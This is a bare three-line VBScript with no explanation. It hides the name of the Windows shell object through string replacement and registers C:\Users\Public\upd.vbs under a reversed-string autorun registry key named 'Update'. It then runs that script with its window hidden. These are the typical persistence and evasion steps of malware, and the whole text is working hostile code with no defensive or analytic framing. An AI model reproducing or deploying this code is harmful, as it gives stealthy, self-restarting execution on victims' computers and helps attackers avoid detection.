Set sh = CreateObject(Replace("WScXXript.ShXXell", "XX", ""))
sh.RegWrite StrReverse("etadpU\nuR\noisreVtnerruC\swodniW\tfosorciM\erawtfoS\UCKH"), "wscript.exe C:\Users\Public\upd.vbs", "REG_SZ"
sh.Run "wscript.exe C:\Users\Public\upd.vbs", 0
